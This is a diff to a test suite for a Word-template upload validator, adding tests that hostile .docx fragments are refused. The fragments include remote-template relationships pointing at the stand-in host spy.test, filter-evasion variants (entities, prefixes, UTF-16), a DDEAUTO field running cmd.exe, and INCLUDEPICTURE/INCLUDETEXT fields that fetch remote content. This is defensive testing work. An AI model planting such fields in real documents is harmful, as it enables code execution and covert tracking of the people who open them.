@@ -226,6 +226,73 @@ describe('filling in', () => {
   })
 })
 
+describe('a Word file that reaches out, however it is written,', () => {
+  const relation = (attributes: string, before = '') =>
+    `${before}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" ${attributes}/></Relationships>`
+  const kind = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+  const target = 'Target="https://spy.test/t.dotm"'
+  const rels = (text: string) => ({ 'word/_rels/settings.xml.rels': Buffer.from(text) })
+  const header = (runs: string) => ({
+    'word/header9.xml': Buffer.from(
+      `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>${runs}</w:p></w:hdr>`,
+    ),
+  })
+  const run = (inner: string) => `<w:r>${inner}</w:r>`
+  const field = (...words: string[]) =>
+    header(
+      [
+        run('<w:fldChar w:fldCharType="begin"/>'),
+        ...words.map((word) => run(`<w:instrText xml:space="preserve">${word}</w:instrText>`)),
+        run('<w:fldChar w:fldCharType="end"/>'),
+      ].join(''),
+    )
+
+  test.each([
+    ['by an entity of XML', rels(relation(`${kind} ${target} TargetMode="&#69;xternal"`))],
+    [
+      'by an entity of its own',
+      rels(relation(`${kind} ${target} TargetMode="&e;"`, '<!DOCTYPE r [<!ENTITY e "External">]>')),
+    ],
+    [
+      'with a prefix',
+      rels(relation(`${kind} ${target} TargetMode="External"`).replaceAll('<R', '<p:R').replaceAll('</R', '</p:R')),
+    ],
+    [
+      'in another encoding',
+      rels('') && {
+        'word/_rels/settings.xml.rels': Buffer.from(relation(`${kind} ${target} TargetMode="External"`), 'utf16le'),
+      },
+    ],
+    [
+      'by a page laid into it',
+      rels(
+        relation(
+          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="page.html"',
+        ),
+      ),
+    ],
+    ['by DDEAUTO', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
+    ['by DDEAUTO in two runs', field(' DDE', 'AUTO cmd ')],
+    ['by INCLUDEPICTURE', field(' includepicture "https://spy.test/p.png" \\d ')],
+    ['by a simple field', header('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://spy.test/x.docx&quot; "/>')],
+  ])('is refused: %s', async (_, more) => {
+    const content = await word('{{today}}', more)
+    expect((await create({ content, source: 2 })).code).toBe(21010)
+  })
+
+  test('a link, the number of the page and a date are fine', async () => {
+    const link =
+      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://pims.example/" TargetMode="External"'
+    for (const more of [
+      rels(relation(link)),
+      field(' PAGE '),
+      field(' DATE \\@ "yyyy" '),
+      field(' HYPERLINK "https://pims.example" '),
+    ])
+      expect((await create({ content: await word('{{today}}', more), source: 2 })).code).toBe(0)
+  })
+})
+
 describe('permission', () => {
   const houseCodes = ['query', 'add', 'edit', 'copy', 'delete'].map((end) => `systemSetting.templateDocument.${end}`)
 
